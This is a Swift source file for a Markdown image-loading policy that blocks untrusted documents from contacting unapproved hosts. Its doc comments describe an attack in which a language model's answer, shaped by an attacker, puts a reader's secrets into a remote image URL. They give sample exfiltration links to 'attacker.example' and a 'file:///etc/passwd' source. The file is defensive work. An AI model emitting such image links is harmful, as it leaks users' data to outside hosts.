import Foundation

/// Which images of a document a front end may load, and so which hosts the document may make
/// it contact. A remote image tells its server that the document was read, and a language
/// model's answer written by an attacker can put the reader's secrets in the image's URL
/// (`![](https://attacker.example/log?q=…)`): a document is untrusted, so by default nothing
/// in it makes a front end contact a host the app did not allow.
///
/// - ``ask`` (the default): a remote image is shown as a placeholder with its description and
///   its host, and loaded only when the reader asks (a tap; the page links to it).
/// - ``allowHosts(_:)``: images from these hosts load at once, others as with ``ask``. A host
///   may be written `*.example.com` for its subdomains.
/// - ``allowAll``: every image loads; for content the app trusts (its own help pages).
///
/// Under every policy `data:` images (PNG, GIF, JPEG, WebP) load, as they contact no one, and
/// so do relative sources, which are the app's own: resolved against the base URL it gave
/// (one resolved against a `file:` base only if it stays inside the base's directory), or,
/// on a page, against the page's own address. A `file:` URL, or any other scheme than `http`,
/// `https` and `data`, is never loaded from a document.
///
/// ```swift
/// let policy = ImagePolicy.allowHosts(["images.example.com"])
/// policy.decision(for: "https://images.example.com/chart.png")   // .load(…)
/// policy.decision(for: "https://attacker.example/log?q=secret")   // .ask(…, host: "attacker.example")
/// policy.decision(for: "file:///etc/passwd")                      // .refuse
/// ```
public struct ImagePolicy: Hashable, Sendable {
    private enum Rule: Hashable, Sendable {
        case ask
        case allowHosts([String])
        case allowAll
    }

    private let rule: Rule

    /// Remote images wait for the reader to ask for each (the default).
    public static let ask = ImagePolicy(rule: .ask)
    /// Every image loads: for Markdown the app trusts.
    public static let allowAll = ImagePolicy(rule: .allowAll)

    /// Images from `hosts` load (`images.example.com`, or `*.example.com` for its subdomains),
    /// others wait for the reader as with ``ask``.
    public static func allowHosts(_ hosts: [String]) -> ImagePolicy {
        ImagePolicy(rule: .allowHosts(hosts.compactMap(Self.normalized)))
    }

    /// The hosts images load from at once, in ASCII (`*.` before those allowed with their
    /// subdomains): empty for ``ask``, `nil` for ``allowAll``.
    public var allowedHosts: [String]? {
        switch rule {
        case .ask: []
        case .allowHosts(let hosts): hosts
        case .allowAll: nil
        }
    }

    /// What a front end does with an image whose source (as the Markdown writes it) is
    /// `source`, when relative sources resolve against `base` (`nil`: they stay relative, as on
    /// a page, which resolves them against its own address).
    public func decision(for source: String, relativeTo base: URL? = nil) -> ImageDecision {
        guard let address = WebAddress(source) else { return .refuse }
        if let scheme = address.scheme {
            if scheme == "data" { return Self.isRasterDataURL(source) ? URL(string: Self.trimmed(source)).map(ImageDecision.load) ?? .refuse : .refuse }
            guard scheme == "http" || scheme == "https", let host = address.host, let url = URL(string: Self.trimmed(source)) else { return .refuse }
            return remote(url, host: host)
        }
        if let host = address.host {
            // `//host/image.png` goes to another host with the scheme of the page.
            let scheme = base?.scheme?.lowercased() == "http" ? "http" : "https"
            guard let url = URL(string: scheme + ":" + Self.trimmed(source).replacingOccurrences(of: "\\", with: "/")) else { return .refuse }
            return remote(url, host: host)
        }
        guard let base else { return URL(string: Self.trimmed(source)).map(ImageDecision.load) ?? .refuse }
        guard let url = URL(string: Self.trimmed(source), relativeTo: base)?.absoluteURL else { return .refuse }
        if base.isFileURL {
            let directory = base.hasDirectoryPath ? base : base.deletingLastPathComponent()
            let inside = url.isFileURL && url.standardizedFileURL.path.hasPrefix(directory.standardizedFileURL.path + "/")
            return inside ? .load(url) : .refuse
        }
        guard ["http", "https"].contains(base.scheme?.lowercased() ?? ""), url.host?.lowercased() == base.host?.lowercased() else { return .refuse }
        return .load(url)
    }

    /// A remote image: loaded when its host is allowed, else asked for.
    private func remote(_ url: URL, host: HostName) -> ImageDecision {
        switch rule {
        case .allowAll:
            return .load(url)
        case .allowHosts(let hosts) where hosts.contains(where: { Self.matches(host.ascii, $0) }):
            return .load(url)
        default:
            return .ask(url, host: LinkDisguise.displayed(host, isLookAlike: LookAlikeHost.isLookAlike(host)))
        }
    }

    /// Whether a host is an allowed one: the same, or under it when allowed as `*.host`.
    private static func matches(_ host: String, _ allowed: String) -> Bool {
        allowed.hasPrefix("*.") ? host.hasSuffix(allowed.dropFirst(1)) : host == allowed
    }

    /// An allowed host in ASCII, `*.` kept.
    private static func normalized(_ host: String) -> String? {
        let wildcard = host.hasPrefix("*.")
        guard let name = HostName(wildcard ? String(host.dropFirst(2)) : host) else { return nil }
        return (wildcard ? "*." : "") + name.ascii
    }

    /// Whether a `data:` URL holds a PNG, GIF, JPEG or WebP image, which is all a front end
    /// decodes (an SVG could hold script or links of its own).
    static func isRasterDataURL(_ source: String) -> Bool {
        let lowered = trimmed(source).lowercased()
        return ["data:image/png", "data:image/gif", "data:image/jpeg", "data:image/jpg", "data:image/webp"].contains { prefix in
            lowered.hasPrefix(prefix) && (lowered.dropFirst(prefix.count).first.map { $0 == ";" || $0 == "," } ?? false)
        }
    }

    private static func trimmed(_ source: String) -> String {
        source.trimmingCharacters(in: .whitespacesAndNewlines.union(.controlCharacters))
    }
}

/// What a front end does with one image, as an ``ImagePolicy`` decides.
public enum ImageDecision: Hashable, Sendable {
    /// Load the image from this URL now (relative when the front end resolves it, as a page does).
    case load(URL)
    /// Show a placeholder naming the image and `host` (``placeholder(description:phrases:)``),
    /// and load the image from the URL only when the reader asks.
    case ask(URL, host: String)
    /// Never load it: a local file, a scheme images are not loaded from, or a relative source
    /// that leaves the directory of a `file:` base.
    case refuse

    /// The words shown and said in place of an image that is not loaded: its description and,
    /// when the reader may load it, where from ("chart of sales (image from example.com, not
    /// loaded)"); just the description otherwise.
    public func placeholder(description: String, phrases: PhraseTable) -> String {
        guard case .ask(_, let host) = self else { return description }
        return phrases.text(.imageNotLoaded, ["description": description, "host": host])
    }
}
